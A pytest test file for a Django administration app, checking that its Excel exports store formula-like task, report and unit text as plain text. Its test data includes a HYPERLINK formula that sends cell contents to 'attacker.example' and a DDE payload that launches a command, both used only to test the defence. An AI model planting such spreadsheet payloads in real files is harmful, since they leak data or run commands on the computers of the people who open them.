"""Issue 11 §12: every .xlsx the application writes stores text as text. A task text such as
`=HYPERLINK("http://…"&A1,"…")` must never become a live formula in the file someone opens."""

import datetime
import io

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from dieuhanh.core.xlsx import Column, add_sheet, new_workbook, workbook_bytes
from dieuhanh.org.constants import Role, UnitKind
from dieuhanh.tasks.models import DeadlineChange
from dieuhanh.tasks.services.completion import approve_completion, request_completion
from tests.factories import (
    CommuneFactory,
    DocumentFactory,
    MembershipFactory,
    ProgressReportFactory,
    TaskFactory,
    UnitFactory,
)
from tests.security.xlsx import formulas

pytestmark = pytest.mark.django_db

D = datetime.date
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_the_sheet_helper_writes_hostile_text_as_text():
    wb = new_workbook()
    add_sheet(
        wb,
        "Thử",
        [Column("Chữ", 30), Column("Số", 8, "int")],
        [[text, i] for i, text in enumerate(HOSTILE)],
        heading=HOSTILE[:2],
        notes=HOSTILE[2:],
    )
    content = workbook_bytes(wb)
    assert formulas(content) == []
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in HOSTILE:
        assert cells[text].data_type == "s", text
        # Excel keeps a quote-prefixed cell as text even when someone edits it.
        assert cells[text].quotePrefix, text
    assert ws.cell(row=5, column=2).value == 0  # numbers stay numbers


def test_a_control_character_that_xlsx_cannot_hold_is_dropped_not_fatal():
    wb = new_workbook()
    add_sheet(wb, "Thử", [Column("Chữ", 30)], [["Báo cáo\x01 tháng\x1f 6"]])
    ws = load_workbook(io.BytesIO(workbook_bytes(wb))).worksheets[0]
    assert ws.cell(row=2, column=1).value == "Báo cáo tháng 6"


@pytest.fixture
def hostile():
    """A commune whose task, report, extension, document and unit names all start like formulas."""
    with time_machine.travel("2026-05-01 09:00 +0700", tick=False):
        province = UnitFactory(kind=UnitKind.PROVINCE, name="Ủy ban nhân dân tỉnh Thử")
        commune = CommuneFactory(parent=province)
        unit = UnitFactory(parent=commune, name="=1+2", short_name="@x")
        leader = MembershipFactory(unit=commune, role=Role.LEADER).user
        document = DocumentFactory(owner=commune, subject=HOSTILE[0], number="7", symbol="+UBND")
        overdue = TaskFactory(
            owner=commune,
            lead_unit=unit,
            document=document,
            text=HOSTILE[0],
            summary=HOSTILE[0],
            deadline=D(2026, 6, 1),
            target="-2+3",
            funding_source="@SUM(A1)",
            budget="12.5",
        )
        ProgressReportFactory(task=overdue, reported_on=D(2026, 6, 2), text="+cmd|' /C calc'!A0")
        done = TaskFactory(owner=commune, lead_unit=unit, summary="\t=1+1", deadline=D(2026, 6, 10))
        DeadlineChange.objects.create(
            task=done, new_date=D(2026, 6, 12), old_date=D(2026, 6, 10), reason="=2*3", status="approved"
        )
    with time_machine.travel("2026-06-12 09:00 +0700", tick=False):
        request_completion(done, leader, claimed_on=D(2026, 6, 11), note="Đã xong")
        approve_completion(done, leader)
    with time_machine.travel("2026-06-15 08:00 +0700", tick=False):
        client = Client()
        client.force_login(leader)  # on the day of the requests: sessions last hours, not days
    yield client


def _get(client, url, params=None):
    with time_machine.travel("2026-06-15 09:00 +0700", tick=False):
        response = client.get(url, params or {})
    assert response.status_code == 200, response.content[:500]
    assert response.content[:2] == b"PK"
    return response.content


def test_the_task_list_export_writes_text(hostile):
    assert formulas(_get(hostile, reverse("tasks:export"))) == []


@pytest.mark.parametrize("kind", ["tasks", "documents", "units"])
def test_the_list_exports_write_text(hostile, kind):
    assert formulas(_get(hostile, reverse("reports:export", args=[kind]))) == []


def test_the_report_workbook_writes_text(hostile):
    content = _get(
        hostile, reverse("reports:index"), {"period": "2026-06", "format": "xlsx", "cutoff": 14, "tai": 1}
    )
    assert formulas(content) == []
    wb = load_workbook(io.BytesIO(content))
    texts = {c.value for ws in wb for row in ws.iter_rows() for c in row}
    assert HOSTILE[0] in texts and "=1+2" in texts  # the values are kept, only as text


def test_the_rankings_workbook_writes_text(hostile):
    content = _get(
        hostile,
        reverse("reports:index"),
        {"period": "2026", "format": "xlsx", "cutoff": 14, "chi-xep-loai": 1},
    )
    assert formulas(content) == []
